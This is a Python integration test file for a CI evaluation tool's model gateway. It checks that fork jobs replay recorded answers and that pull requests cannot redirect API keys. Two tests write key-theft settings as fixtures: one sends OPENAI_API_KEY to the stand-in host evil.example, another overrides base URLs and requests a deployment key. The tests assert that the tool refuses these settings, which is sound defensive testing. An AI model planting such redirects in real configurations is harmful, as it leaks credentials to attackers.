"""Jobs with the model gateway: keys stay with the host, and a fork's job replays the base's answers."""

from __future__ import annotations

from tests.fakes.fixtures import openai_server
from tests.fakes.github import events
from tests.fakes.openai import OpenAIServer
from tests.integration.jobs.world import World

__all__ = ["openai_server"]
KEY = "sk-real-0123456789abcdef"
SETTINGS = 'gateway = "{mode}"\ncassettes = "artifact"\npaths = ["evals/ask.py"]\ncache = "off"\n'
SUITE = '''
import json, os, urllib.request
from scoregate import evaluate
from scoregate.scorers import contains

def ask(input):
    """Ask as a client in any language does, and without the SDK."""
    body = {{"model": "gpt-4o", "messages": [{{"role": "user", "content": {prompt} + input}}]}}
    request = urllib.request.Request(
        os.environ["OPENAI_BASE_URL"] + "/chat/completions",
        json.dumps(body).encode(),
        {{"authorization": "Bearer " + os.environ["OPENAI_API_KEY"], "content-type": "application/json"}},
    )
    with urllib.request.urlopen(request) as answer:
        return json.load(answer)["choices"][0]["message"]["content"]

print("seen:", sorted(name for name, value in os.environ.items() if {key!r} in value))
evaluate("ask", data=[{{"input": f"question {{n}}", "expected": f"answer {{n}}"}} for n in range({cases})], task=ask,
         scorers=[contains()])
'''


def write_suite(world: World, *, cases: int = 12, prompt: str = '"Please: "') -> None:
    world.project.write("evals/ask.py", SUITE.format(cases=cases, prompt=prompt, key=KEY))
    world.commit()


def start(world: World, server: OpenAIServer, mode: str = "record") -> None:
    server.answers(r"question (\d+)", lambda question: "answer " + question.last.rpartition(" ")[2])
    world.project.write("scoregate.toml", SETTINGS.format(mode=mode))
    write_suite(world)


def test_a_fork_job_replays_unaffected_calls(world: World, openai_server: OpenAIServer) -> None:
    start(world, openai_server)
    base = world.push(OPENAI_API_KEY=KEY, OPENAI_BASE_URL=openai_server.url)
    assert base.exit_code == 0, base.output
    assert "seen: []" in base.output
    (calls,) = base.run["model_calls"]
    assert (calls["provider"], calls["model"], calls["calls"], calls["failed"]) == ("openai", "gpt-4o", 12, 0)
    assert KEY.encode() not in b"".join(base.written.values())
    assert len(openai_server.asked()) == 12
    (suite,) = base.run["suites"]
    assert suite["usage"] is None  # each call names its case
    assert calls["input_tokens"] > 0

    world.branch()
    world.project.write("README.md", "a change that no suite depends on")
    world.commit()
    pull = world.open_pull_request(fork=world.fork())
    same = world.job(events.pull_request(pull))
    assert same.exit_code == 0, same.output
    assert len(openai_server.asked()) == 12
    assert same.run["model_calls"][0]["replayed"] == 12
    assert "calls of models are answered from recordings: those of main@" in same.summary

    world.project.git("checkout", "-q", "change")
    write_suite(world, cases=13)
    world.check_out_merge(pull)
    more = world.job(events.pull_request(pull))
    assert more.exit_code == 3, more.output
    assert "no recorded answer to a call of openai/gpt-4o" in more.output
    assert "calls of models need a key, which this job does not have" in more.output
    assert "A maintainer can run the change on a branch" in more.output
    assert more.run["model_calls"][0]["replayed"] == 12
    assert len(openai_server.asked()) == 12


def test_a_pull_request_cannot_choose_where_keys_are_sent(world: World, openai_server: OpenAIServer) -> None:
    start(world, openai_server, "on")
    world.push(OPENAI_API_KEY=KEY, OPENAI_BASE_URL=openai_server.url)
    world.branch()
    theft = '[gateway]\nmode = "on"\n[gateway.providers.mine]\nbase_url = "https://evil.example/v1"\n'
    theft += 'key_env = "OPENAI_API_KEY"\n'
    world.project.write("scoregate.toml", theft)
    world.commit()
    pull = world.open_pull_request()
    refusal = world.job(events.pull_request(pull), OPENAI_API_KEY=KEY)
    assert refusal.exit_code == 2, refusal.output
    assert "gateway.providers.mine.base_url (scoregate.toml" in refusal.output
    assert "a pull request can't choose where keys are sent" in refusal.output
    world.project.git("checkout", "-q", "change")
    world.project.write("scoregate.toml", 'model_base_url = "https://evil.example/v1"\ngateway = "on"\n')
    world.commit()
    world.check_out_merge(pull)
    refusal = world.job(events.pull_request(pull), OPENAI_API_KEY=KEY)
    assert refusal.exit_code == 2, refusal.output
    assert "model_base_url (scoregate.toml" in refusal.output


def test_a_pull_request_does_not_change_gateway_settings_of_its_base(world: World, openai_server: OpenAIServer) -> None:
    start(world, openai_server, "on")
    base_settings = 'policy_from = "base"\npaths = ["evals/ask.py"]\ncache = "off"\n[gateway]\nmode = "on"\n'
    world.project.write("scoregate.toml", base_settings)
    world.commit()
    keys = {"OPENAI_API_KEY": KEY, "OPENAI_BASE_URL": openai_server.url}
    world.push(**keys)
    world.branch()
    theft = '[gateway]\nmode = "off"\n[gateway.providers.mine]\nbase_url = "http://127.0.0.1:1/v1"\n'
    theft += 'key_env = "DEPLOY_KEY"\n'
    world.project.write("scoregate.toml", f'env_file = "its.env"\npaths = ["evals/ask.py"]\ncache = "off"\n{theft}')
    world.project.write("its.env", "OPENAI_BASE_URL=http://127.0.0.1:1/v1\nMINE_BASE_URL=http://127.0.0.1:1/v1\n")
    world.commit()
    request_count = len(openai_server.asked())
    outcome = world.job(events.pull_request(world.open_pull_request()), **keys, DEPLOY_KEY="of-the-deployment")
    assert outcome.exit_code == 0, outcome.output
    assert "seen: []" in outcome.output
    assert "gateway changed (not applied: policy_from = base)" in outcome.output
    assert len(openai_server.asked()) == request_count + 12


def test_hidden_outputs_keep_no_cassettes(world: World, openai_server: OpenAIServer) -> None:
    start(world, openai_server)
    job = world.job(events.push(world.repo), "run", "--show-outputs", "none", OPENAI_API_KEY=KEY)
    assert job.exit_code == 2
    assert 'contradicts show_outputs = "none"' in job.output
    assert openai_server.asked() == []
